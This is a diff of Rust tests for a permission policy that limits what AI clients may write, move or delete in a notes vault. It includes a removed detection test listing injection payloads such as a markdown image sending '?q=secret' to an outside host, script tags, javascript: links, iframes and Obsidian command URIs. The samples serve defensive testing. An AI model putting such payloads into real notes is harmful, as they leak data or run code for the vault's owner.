@@ -4,6 +4,7 @@ use std::time::Duration;
 
 use serde_json::{Value, json};
 
+use super::active::Find;
 use super::settings::Switch;
 use super::*;
 use crate::note::code::ErrorCode;
@@ -81,7 +82,8 @@ fn effect(action: Action, at: &str) -> Effect {
         files: 1,
         bytes: 0,
         changed: 0,
-        remote: None,
+        was_gone: false,
+        active: Vec::new(),
     }
 }
 
@@ -280,8 +282,8 @@ fn what_a_turn_writes_is_added_up_until_a_person_is_asked() {
     let (one, other, none) = (of(Some("one")), of(Some("other")), of(None));
     for _ in 0..2 {
         assert_eq!(policy.judge(&one.call(), &text), Ok(vec![]));
-        policy.applied(&one.call(), 100);
-        policy.applied(&none.call(), 100);
+        policy.applied(&one.call(), &text);
+        policy.applied(&none.call(), &text);
     }
     let reasons = policy.judge(&one.call(), &text).expect("not refused");
     assert_eq!(reasons[0].text, "this turn would have written 300 bytes");
@@ -292,19 +294,80 @@ fn what_a_turn_writes_is_added_up_until_a_person_is_asked() {
     assert_eq!(policy.judge(&none.call(), &text), Ok(vec![]));
     // Without end it is no memory leak.
     for number in 0..5_000 {
-        policy.applied(&of(Some(&format!("turn {number}"))).call(), 1);
+        policy.applied(&of(Some(&format!("turn {number}"))).call(), &text);
     }
+}
+
+#[test]
+fn what_a_token_moves_and_deletes_in_an_hour_is_added_up_until_a_person_is_asked() {
+    let time = Arc::new(AtomicU64::new(0));
+    let clock = Arc::clone(&time);
+    let clock: Clock = Arc::new(move || Duration::from_secs(clock.load(Ordering::Relaxed)));
+    let policy = Policy::new(Settings { hour_files: 6, ..Settings::default() }, clock);
+    let by = |scope, name: &str, turn: Option<&str>| {
+        let caller = Caller { scope, name: name.to_owned() };
+        let turn = turn.map(str::to_owned);
+        Asked { caller, turn, ..Asked::new(scope, Permission::Move) }
+    };
+    let deletes = |asked: &Asked, effect: Effect| {
+        let reasons = policy.judge(&asked.call(), std::slice::from_ref(&effect)).unwrap();
+        if reasons.is_empty() {
+            policy.applied(&asked.call(), &[effect]);
+        }
+        reasons.is_empty()
+    };
+    // Each by another name, and in whichever way.
+    let ways = [
+        effect(Action::Delete, "a.md"),
+        Effect { from: Some(path("c.md")), ..effect(Action::Move, "b.md") },
+        Effect { shown: Action::Delete, ..effect(Action::Restore, "a.md") },
+    ];
+    for (number, way) in ways.iter().chain(&ways).enumerate() {
+        assert!(deletes(&by(Scope::Client, &number.to_string(), None), way.clone()));
+    }
+    let client = by(Scope::Client, "another", None);
+    for way in &ways {
+        assert!(!deletes(&client, way.clone()), "{way:?}");
+    }
+    let reasons = policy.judge(&client.call(), &ways[..1]).unwrap();
+    assert!(reasons[0].text.contains("`[policy] hour_files`") && !reasons[0].lasting);
+    // What is written and what comes back is no loss; others have their own, persons and turns none.
+    let other = [effect(Action::Write, "a.md"), effect(Action::Restore, "a.md")];
+    assert_eq!(policy.judge(&client.call(), &other), Ok(vec![]));
+    assert!(deletes(&by(Scope::Voice, "v", None), ways[0].clone()));
+    for _ in 0..20 {
+        assert!(deletes(&by(Scope::Person, "p", None), ways[0].clone()));
+        assert!(deletes(&by(Scope::Client, "c", Some("turn")), ways[0].clone()));
+    }
+    // It fills again with the time: one each ten minutes.
+    time.store(601, Ordering::Relaxed);
+    assert!(deletes(&client, ways[0].clone()) && !deletes(&client, ways[0].clone()));
+    time.store(601 + 3_600, Ordering::Relaxed);
+    assert!(
+        (0..6).all(|_| deletes(&client, ways[0].clone())) && !deletes(&client, ways[0].clone())
+    );
 }
 
 #[test]
 fn what_loads_by_itself_asks_unless_a_person_writes_it() {
     let policy = policy(Settings::default());
-    let with = Effect { remote: Some("![](https://x)".into()), ..effect(Action::Write, "a.md") };
+    let find = |line| Find { line, text: format!("the image `https://x/{line}`") };
+    let finds = |number| Effect {
+        active: (1..=number).map(find).collect(),
+        ..effect(Action::Write, "a.md")
+    };
+    let with = finds(2);
     for scope in Scope::ALL {
         let asked = Asked::new(scope, Permission::Write);
         let reasons = policy.judge(&asked.call(), std::slice::from_ref(&with)).expect("passes");
-        assert_eq!(reasons.is_empty(), scope.is_person(), "{scope:?}");
+        assert_eq!(reasons.len(), if scope.is_person() { 0 } else { 2 }, "{scope:?}");
         assert!(reasons.iter().all(|reason| !reason.lasting));
+        let second = "it puts into `a.md`, line 2, what loads or runs by itself: the image \
+                      `https://x/2`";
+        assert!(reasons.last().is_none_or(|reason| reason.text == second), "{reasons:?}");
+        // Nobody reads so many, so nobody is asked.
+        let many = policy.judge(&asked.call(), &[finds(100), finds(1)]);
+        assert_eq!(many.is_err(), !scope.is_person(), "{scope:?}");
     }
 }
 
@@ -396,55 +459,4 @@ fn other_settings_hold_from_the_next_call() {
     assert_eq!(refused(&shared, &asked), None);
     policy.replace(Settings { client: Permission::Read, ..Settings::default() });
     assert_eq!(refused(&shared, &asked), Some("permission"));
-}
-
-#[test]
-fn what_obsidian_would_load_or_run_is_seen() {
-    let old = "# Notes\n![old](https://example.com/old.png)\n";
-    let fine = [
-        "![[image.png]] and ![alt](pictures/a.png) and [link](https://example.com)",
-        "https://example.com is an address; `code` too; a < b and b > a; 5: five",
-        "![old](https://example.com/old.png) was here before",
-        "| a | b |\n|---|---|\n```rust\nlet x = 1;\n```\n```dataview\nLIST\n```",
-        "[x]: local.md",
-        "![a](a%20b.png \"title: what\")",
-    ];
-    for text in fine {
-        assert_eq!(
-            remote::added(old, &format!("{old}{text}"))
-                .as_deref()
-                .filter(|_| !text.contains("old")),
-            None,
-            "{text}"
-        );
-    }
-    assert_eq!(remote::added(old, old), None);
-    let suspicious = [
-        "![](https://x.example/?q=secret)",
-        "![](http://127.0.0.1:9/?d=1)",
-        "![a|100](//x.example/a.png)",
-        "![a](<https://x.example/a b.png>)",
-        "![a](\n  https://x.example/a.png)",
-        "![a](h&#116;tps://x.example/a.png)",
-        "![a [b] c](HTTPS://x.example)",
-        "![](ht\u{200b}tps://x.example)",
-        "![x][ref]\n\n[ref]: https://x.example/a.png",
-        "<img src=x>",
-        "<IMG\nSRC='https://x.example'>",
-        "<iframe src=\"https://x.example\"></iframe>",
-        "<script>alert(1)</script>",
-        "<div style=\"background: url(https://x.example)\">",
-        "<p onclick='x()'>",
-        "[run](obsidian://advanced-uri?commandid=app%3Areload)",
-        "[x](javascript:alert(1))",
-        "```dataviewjs\ndv.x\n```",
-        "~~~ dataviewjs\nx\n~~~",
-        "`$= dv.pages()`",
-        "<% tp.system.prompt() %>",
-        "{\"type\":\"link\",\"url\":\"https://x.example\"}",
-        "![old](https://example.com/old.png) once more",
-    ];
-    for text in suspicious {
-        assert!(remote::added(old, &format!("{old}\n{text}\n")).is_some(), "{text}");
-    }
 }
